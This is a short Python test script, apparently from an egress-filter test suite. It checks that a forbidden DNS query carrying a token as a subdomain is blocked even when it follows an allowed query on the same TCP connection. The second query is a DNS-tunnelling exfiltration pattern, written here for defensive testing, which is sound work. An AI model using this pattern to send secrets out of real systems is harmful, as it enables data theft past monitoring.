#!/usr/bin/python3
# id: d35d_dns_tcp_later_message
# title: an allowed query, its answer, then a forbidden one on the same connection
# needs: user
# expect: block
# why: each message is judged
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    s = socket.create_connection((ALLOW, 53), 3); s.settimeout(2)
    for q in (dnsq(ANAME), dnsq(f'{TOK}.{FNAME}')): s.sendall(len(q).to_bytes(2, 'big') + q); s.recv(600)
attempt(f, dst=(ALLOW,), chan=('dns',))
